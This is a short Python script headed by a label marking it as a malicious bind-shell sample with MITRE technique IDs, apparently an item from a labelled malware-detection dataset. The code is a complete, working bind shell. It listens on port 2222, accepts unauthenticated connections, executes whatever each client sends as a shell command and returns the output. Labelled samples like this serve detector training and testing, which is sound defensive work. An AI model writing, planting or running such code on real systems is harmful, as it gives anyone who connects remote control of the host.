# label: malicious family=bindshell techniques=T1059.004,T1095,T1571 lines=4-5,18
import select, socket, subprocess
srv = socket.socket(socket.AF_INET6)
srv.bind(("::", 2222))
srv.listen(5)
clients = []
while True:
    r, _, _ = select.select([srv] + clients, [], [])
    for s in r:
        if s is srv:
            c, _ = srv.accept()
            clients.append(c)
            continue
        cmd = s.recv(1024)
        if not cmd:
            clients.remove(s)
            continue
        s.send(subprocess.run(cmd, shell=True, capture_output=True).stdout)
